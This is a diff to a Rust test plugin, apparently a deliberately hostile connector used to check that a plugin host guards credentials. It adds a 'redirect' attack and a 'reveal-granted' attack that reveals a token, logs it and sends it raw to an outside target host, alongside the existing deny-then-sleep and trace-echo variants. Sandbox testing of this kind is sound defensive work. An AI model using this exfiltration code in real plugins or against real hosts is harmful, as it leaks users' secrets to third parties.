@@ -99,13 +99,20 @@ pub enum Attack {
     /// 16 KiB values, a refused request with hundreds of placeholders, an
     /// authority of 20 KB.
     Amplify,
-    /// Asks for a reveal it is not granted (a denial to audit), then sleeps
-    /// in a host call until the run is cancelled.
-    DenyThenSleep,
     /// A `TRACE` with the token's placeholder to the token's origin: a
     /// server echoes the request's headers back; the plugin reverses the
     /// echoed token (beyond matching) and sends it to `target`.
     TraceEcho,
+    /// A request with the token to the token's origin that answers with a
+    /// redirect to `target`: the host must not follow it.
+    Redirect,
+    /// For an operator who granted `reveal` of the token: reveals it, shows
+    /// it is real (sends it to the token's origin), logs it, sends it raw to
+    /// `target` and returns it in its error.
+    RevealGranted,
+    /// Asks for a reveal it is not granted (a denial to audit), then sleeps
+    /// in a host call until the run is cancelled.
+    DenyThenSleep,
 }
 
 /// Pages a `bulk` fetch returns.
@@ -117,7 +124,7 @@ pub const BULK_RECORD_BYTES: usize = 1024;
 
 impl Attack {
     /// Every attack with its setting value.
-    pub const ALL: [(&'static str, Attack); 27] = [
+    pub const ALL: [(&'static str, Attack); 29] = [
         ("ok", Attack::Ok),
         ("loop", Attack::Loop),
         ("sleep", Attack::Sleep),
@@ -143,8 +150,10 @@ impl Attack {
         ("connection-flood", Attack::ConnectionFlood),
         ("reflect-exfiltrate", Attack::ReflectExfiltrate),
         ("amplify", Attack::Amplify),
-        ("deny-then-sleep", Attack::DenyThenSleep),
         ("trace-echo", Attack::TraceEcho),
+        ("redirect", Attack::Redirect),
+        ("reveal-granted", Attack::RevealGranted),
+        ("deny-then-sleep", Attack::DenyThenSleep),
     ];
 
     fn parse(name: &str) -> Result<Attack, ConnectorError> {
@@ -261,6 +270,18 @@ impl Connector for Hostile {
             Attack::Amplify => {
                 amplify(config::get_or(config, "outside", DEFAULT_TARGET).trim_end_matches('/'))
             }
+            Attack::TraceEcho => trace_echo(
+                base,
+                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
+            ),
+            Attack::Redirect => redirect(
+                base,
+                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
+            ),
+            Attack::RevealGranted => reveal_granted(
+                base,
+                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
+            ),
             Attack::DenyThenSleep => {
                 let denied = credentials::reveal(&["token"]);
                 log::warn(&format!(
@@ -270,10 +291,6 @@ impl Connector for Hostile {
                 std::thread::sleep(Duration::from_secs(3600));
                 Err(ConnectorError::Other("LEAK: slept an hour".into()))
             }
-            Attack::TraceEcho => trace_echo(
-                base,
-                config::get_or(config, "target", DEFAULT_TARGET).trim_end_matches('/'),
-            ),
         }
     }
 }
@@ -889,4 +906,52 @@ fn trace_echo(base: &str, target: &str) -> Result<Page, ConnectorError> {
         ),
     ];
     Err(verdict("trace-echo", &attempts))
+}
+
+/// A request with the token that the platform redirects to `target`:
+/// returns the status the plugin saw.
+fn redirect(base: &str, target: &str) -> Result<Page, ConnectorError> {
+    let token = credentials::placeholder("token")?;
+    let response = Request::get(format!("{base}/redirect"))
+        .query("to", &format!("{target}/hostile/redirected"))
+        .header("authorization", format!("Bearer {token}"))
+        .send()
+        .map_err(|e| ConnectorError::Other(format!("redirect: {e}")))?;
+    let location = response.header("location").unwrap_or_default().to_owned();
+    Ok(one_record(&format!(
+        r#"{{"attack":"redirect","status":{},"location":{}}}"#,
+        response.status,
+        serde_json::Value::String(location)
+    )))
+}
+
+/// With `reveal` of the token granted: reveals it, proves it holds the real
+/// value (sends it raw to the token's origin, where it may go), logs it,
+/// sends it raw to `target` (where it may not go) and returns it in its
+/// error, upper-cased too.
+fn reveal_granted(base: &str, target: &str) -> Result<Page, ConnectorError> {
+    let token = credentials::reveal(&["token"])?
+        .pop()
+        .ok_or_else(|| ConnectorError::Other("reveal-granted: no value".into()))?;
+    let home = attempt(
+        Request::get(format!("{base}/hostile/revealed"))
+            .header("authorization", format!("Bearer {token}")),
+    );
+    log::warn(&format!(
+        "reveal-granted: the token is {token} ({})",
+        token.to_uppercase()
+    ));
+    let elsewhere =
+        attempt(Request::get(format!("{target}/hostile/revealed-elsewhere")).query("t", &token));
+    Err(ConnectorError::Other(format!(
+        "reveal-granted: to the token's origin: {}; to {target}: {}; the token is {token}",
+        match &home {
+            Ok(got) => format!("sent ({got})"),
+            Err(why) => format!("refused ({why})"),
+        },
+        match &elsewhere {
+            Ok(got) => format!("LEAK: sent ({got})"),
+            Err(why) => format!("refused ({why})"),
+        }
+    )))
 }
